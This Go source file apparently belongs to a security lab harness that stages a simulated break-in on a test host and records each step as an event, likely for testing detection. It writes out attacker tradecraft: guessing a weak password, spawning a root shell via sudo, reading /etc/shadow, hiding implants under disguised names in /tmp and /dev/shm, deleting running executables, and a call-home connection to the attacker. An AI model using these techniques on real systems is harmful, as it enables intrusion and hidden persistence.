package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"time"
)

const (
	dropDir     = "/tmp/.X11-lock" // where the attacker works
	deletedPort = 4444             // the listener whose executable is gone
	memoryPort  = 31337            // the one that never lay on a disk
	sharedPort  = 8088             // the one in /dev/shm
	controlPort = 8443             // where the attacker waits to be called
)

// An intrusion is what the attacker holds on the victim.
type intrusion struct {
	*session
	control net.Listener
	call    net.Conn
	shell   net.Conn
	pids    map[string]int // of the implants, by their kind
}

// breakIn lets the attacker guess the weak password at last, become root, leave
// implants and have one of them call home.
func (l *lab) breakIn() *intrusion {
	i := &intrusion{control: listen(attacker4, controlPort), pids: map[string]int{}}
	l.upload()
	i.session = l.open(attacker4, weakUser, []string{wrongPassword, "deploy", weakPassword}, "during")
	l.sudo(i.session, "/usr/bin/id")
	l.sudoDenied(i.session, weakPassword, "/usr/bin/cat /etc/shadow")
	start := time.Now()
	// From here on the session's shell is root's.
	if got := i.say("exec sudo -n /bin/sh -c 'id -un; exec /bin/sh'"); got != "root" {
		must(errors.New(got), "sudo")
	}
	l.note(act{What: actSudo, Actor: "attacker", At: start, User: weakUser, Count: 1, Detail: map[string]string{"command": "/bin/sh -c id -un; exec /bin/sh", "as": "root"}})
	i.say(fmt.Sprintf("mkdir -p %s && cp %s/upd %s/kworkerd && cp %s/upd /dev/shm/.cache && echo copied", dropDir, labDir+"/upload", dropDir, labDir+"/upload"))
	l.implant(i, "deleted", dropDir+"/kworkerd", "listen", deletedPort)
	i.say("rm -f " + dropDir + "/kworkerd && echo removed")
	l.implant(i, "shm", "/dev/shm/.cache", "listen", sharedPort)
	l.implant(i, "memfd", "/dev/shm/.cache", "memory", memoryPort)
	l.callHome(i)
	return i
}

// upload lays the implant where the session can take it from. How it came there,
// by scp or by a hole in a site, is not part of the story.
func (l *lab) upload() {
	b, err := os.ReadFile("/proc/self/exe")
	must(err, "implant")
	must(os.MkdirAll(l.path(labDir+"/upload"), 0o755), "implant")
	must(os.WriteFile(l.path(labDir+"/upload/upd"), b, 0o755), "implant")
}

// sudo runs one command as root by sudo, which allows it.
func (l *lab) sudo(s *session, command string) {
	start := time.Now()
	if got := s.say("sudo -n " + command + " >/dev/null 2>&1; echo $?"); got != "0" {
		must(errors.New(got), "sudo %s", command)
	}
	l.note(act{What: actSudo, Actor: s.login.Actor, At: start, User: s.user, Count: 1, Detail: map[string]string{"command": command, "as": "root"}})
}

// sudoDenied runs one command by sudo, which forbids it, after it has taken the
// right password; without that it would say no, and log nothing.
func (l *lab) sudoDenied(s *session, password, command string) {
	start := time.Now()
	if got := s.say("echo " + password + " | sudo -S " + command + " >/dev/null 2>&1; echo $?"); got != "1" {
		must(errors.New(got), "sudo %s", command)
	}
	l.note(act{What: actSudoDenied, Actor: s.login.Actor, At: start, User: s.user, Count: 1, Detail: map[string]string{"command": command, "as": "root"}})
}

// implant starts one implant, which says its process id.
func (l *lab) implant(i *intrusion, kind, program, order string, port int) {
	start := time.Now()
	out := dropDir + "/" + kind
	i.say(fmt.Sprintf("%s implant %s %d >%s 2>&1 & echo started", program, order, port, out))
	i.pids[kind] = l.implantPID(out)
	exe := strings.TrimSpace(l.command("readlink", fmt.Sprintf("/proc/%d/exe", i.pids[kind])).run())
	l.note(act{What: actListener, Actor: "attacker", At: start, User: "root", Count: 1, PID: i.pids[kind], Port: port, Path: exe, Detail: map[string]string{"kind": kind}})
}

func (l *lab) implantPID(out string) (pid int) {
	await("the implant of "+out, func() bool { return strings.HasSuffix(l.read(out), "\n") })
	_, err := fmt.Sscan(l.read(out), &pid)
	must(err, "implant: %s", l.read(out))
	must(os.Remove(l.path(out)), "implant")
	return pid
}

// callHome has an implant connect to the attacker.
func (l *lab) callHome(i *intrusion) {
	start := time.Now()
	out := dropDir + "/call"
	i.say(fmt.Sprintf("/dev/shm/.cache implant call %s:%d >%s 2>&1 & echo started", attacker4, controlPort, out))
	var err error
	i.call, err = i.control.Accept()
	must(err, "call home")
	i.pids["call"] = l.implantPID(out)
	l.note(act{What: actOutgoing, Actor: "attacker", At: start, From: attacker4, Count: 1, PID: i.pids["call"], Port: controlPort, Path: "/dev/shm/.cache",
		Detail: map[string]string{"from": fmt.Sprint(i.call.RemoteAddr().(*net.TCPAddr).Port)}},
		act{What: actWritable, Actor: "attacker", At: start, User: "root", Count: 1, PID: i.pids["call"]})
}

// retreat ends the attacker's session and what is connected or looks on; the
// listeners stay, and so does what waits to be used again.
func (l *lab) retreat(i *intrusion) {
	for _, kind := range []string{"call", "shell", "trace"} {
		start, pid := time.Now(), i.pids[kind]
		i.say(fmt.Sprintf("kill -KILL %[1]d; wait %[1]d; echo killed", pid))
		l.gone(pid)
		l.note(act{What: actKilled, Actor: "attacker", At: start, User: "root", Count: 1, PID: pid})
	}
	i.call.Close()
	i.shell.Close()
	i.control.Close()
	l.leave(i.session)
}

// gone waits for the end of a process of the victim.
func (l *lab) gone(pid int) {
	await(fmt.Sprintf("the end of process %d", pid), func() bool { return !l.exists(fmt.Sprintf("/proc/%d", pid)) })
}

// cleanUp is the administrator, who finds one of the listeners.
func (l *lab) cleanUp(s *session, pid int) {
	start := time.Now()
	l.sudo(s, fmt.Sprintf("/usr/bin/kill -KILL %d", pid))
	l.gone(pid)
	l.note(act{What: actKilled, Actor: "admin", At: start, User: "root", Count: 1, PID: pid})
}
